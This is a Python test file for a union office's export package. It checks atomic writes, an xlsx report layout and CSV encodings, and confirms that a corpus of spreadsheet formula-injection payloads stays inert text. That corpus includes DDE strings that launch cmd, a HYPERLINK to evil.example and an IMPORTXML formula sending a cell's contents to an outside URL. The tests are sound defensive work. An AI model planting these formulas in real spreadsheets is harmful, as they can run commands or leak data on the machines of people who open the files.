"""Writers: atomic files, the report layout, formula-injection corpus (docs/reliability.md D1–D3), CSV encodings."""

from __future__ import annotations

import csv
import os
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from unionoffice.exchange.csv_export import guard, write_csv
from unionoffice.exchange.errors import ExportError
from unionoffice.exchange.readers import read_table
from unionoffice.exchange.safe_write import atomic_output, file_sha256
from unionoffice.exchange.xlsx_report import DATE, INT, MONEY, Column, Heading, ReportSpec, write_report

# OWASP's CSV-injection payloads and their cousins: every one must stay a string.
PAYLOADS = [
    "=1+1", "=HYPERLINK(\"http://evil.example\",\"点击查看\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
    "=cmd|' /C notepad'!'A1'", "\t=1+1", "\r=1+1", "=1,2;3", "\"=1\"", "'=1", "=-1", "@", "-", "+", "=",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "=IMPORTXML(CONCAT(\"http://x?\", A1), \"//a\")", "-5", "+86 138 0000 0000",
    "=A1&\"\"", "=1;2", "a,b", "a;b", "引号\"里面\"", "=１+１", "=\u200b1+1", "@mention", "=0x41", "=TRUE",
] + [f"={i}*{i}" for i in range(20)]
SPEC = ReportSpec("测试报表", (Column("序号", 6, INT), Column("内容", 30), Column("身份证号", 21),
                               Column("金额（元）", 12, MONEY, True), Column("日期", 12, DATE)), units="单位：元")


def test_atomic_output_leaves_nothing_under_the_real_name_when_interrupted(tmp_path: Path) -> None:
    tmp_path = tmp_path / "usb"
    tmp_path.mkdir()
    final = tmp_path / "report.xlsx"
    final.write_bytes(b"the previous complete file")
    def pull_the_stick() -> None:
        with atomic_output(final) as target:
            target.temp.write_bytes(b"half a fi")
            raise RuntimeError("USB stick pulled")

    with pytest.raises(RuntimeError, match="USB stick pulled"):
        pull_the_stick()
    assert final.read_bytes() == b"the previous complete file"
    assert [p.name for p in tmp_path.iterdir()] == ["report.xlsx"]
    with atomic_output(final) as target:
        target.temp.write_bytes(b"complete")
    assert final.read_bytes() == b"complete"
    assert target.result is not None
    assert target.result.sha256 == file_sha256(final)
    assert target.result.size == 8


def test_atomic_output_refuses_a_missing_folder(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="文件夹不存在"), atomic_output(tmp_path / "no" / "x.xlsx"):
        pass


def test_report_layout(tmp_path: Path) -> None:
    rows = [[i, f"第{i}行", "22010219491231002X", 12345, date(2024, 1, i)] for i in range(1, 4)]
    written = write_report(tmp_path / "r.xlsx", SPEC, Heading("南关区总工会", "李四", "0431-8888", date(2024, 10, 9)),
                           rows)
    assert written.rows == 3
    book = openpyxl.load_workbook(written.file.path)
    sheet = book.active
    assert sheet["A1"].value == "测试报表"
    assert "A1:E1" in [str(r) for r in sheet.merged_cells.ranges]
    assert sheet["A2"].value == "填报单位（盖章）：南关区总工会"
    assert sheet["C2"].value == "填报人：李四　　电话：0431-8888"
    assert sheet["E2"].value == "填报日期：2024年10月9日"
    assert sheet["E3"].value == "单位：元"
    assert [c.value for c in sheet[4]] == ["序号", "内容", "身份证号", "金额（元）", "日期"]
    assert sheet.freeze_panes == "A5"
    assert sheet.print_title_rows == "$4:$4"
    assert sheet["C5"].data_type == "s"
    assert sheet["C5"].value == "22010219491231002X"
    assert sheet["D5"].value == 123.45
    assert sheet["D5"].number_format == "#,##0.00"
    assert sheet["A8"].value == "合计"
    assert sheet["D8"].value == pytest.approx(370.35)
    assert sheet.column_dimensions["B"].width > 29


def test_formula_injection_corpus_stays_text_in_xlsx(tmp_path: Path) -> None:
    rows = [[i, payload, payload, None, None] for i, payload in enumerate(PAYLOADS, start=1)]
    written = write_report(tmp_path / "inj.xlsx", SPEC, Heading(), rows)
    with zipfile.ZipFile(written.file.path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml
    values = [r[1] for r in read_table(written.file.path).rows[4:]]
    assert values[: len(PAYLOADS)] == PAYLOADS


def test_formula_injection_corpus_is_guarded_in_csv_and_read_back_exactly(tmp_path: Path) -> None:
    rows = [[i, payload, "", 0, None] for i, payload in enumerate(PAYLOADS, start=1)]
    written = write_csv(tmp_path / "inj.csv", SPEC, rows)
    with written.file.path.open(encoding="utf-8-sig", newline="") as handle:
        fields = [r[1] for r in list(csv.reader(handle))[1:]]
    for payload, field in zip(PAYLOADS, fields, strict=True):
        assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), field
        assert field == guard(payload)
    table = read_table(written.file.path)
    from unionoffice.exchange.cells import csv_text_value

    # Exact, except the zero-width space the importer deliberately drops from every cell.
    assert [csv_text_value(r[1]) for r in table.rows[1:]] == [p.replace("\u200b", "") for p in PAYLOADS]


def test_csv_encodings(tmp_path: Path) -> None:
    rows = [[1, "吉𠮷", "11010519491231002X", -150, date(2024, 5, 1)]]
    utf8 = write_csv(tmp_path / "u.csv", SPEC, rows).file.path.read_bytes()
    assert utf8.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in utf8
    assert '"-1.50"' in utf8.decode("utf-8-sig")
    assert '"2024-05-01"' in utf8.decode("utf-8-sig")
    assert "吉𠮷" in write_csv(tmp_path / "g.csv", SPEC, rows, encoding="gb18030").file.path.read_bytes().decode(
        "gb18030")
    with pytest.raises(ExportError, match="第 2 行「内容」中的“𠮷”"):
        write_csv(tmp_path / "k.csv", SPEC, rows, encoding="gbk")
    assert not (tmp_path / "k.csv").exists()


def test_an_interrupted_report_leaves_no_file(tmp_path: Path) -> None:
    tmp_path = tmp_path / "usb"
    tmp_path.mkdir()
    def rows():  # type: ignore[no-untyped-def]
        yield [1, "a", "b", 1, None]
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_report(tmp_path / "r.xlsx", SPEC, Heading(), rows())
    assert os.listdir(tmp_path) == []
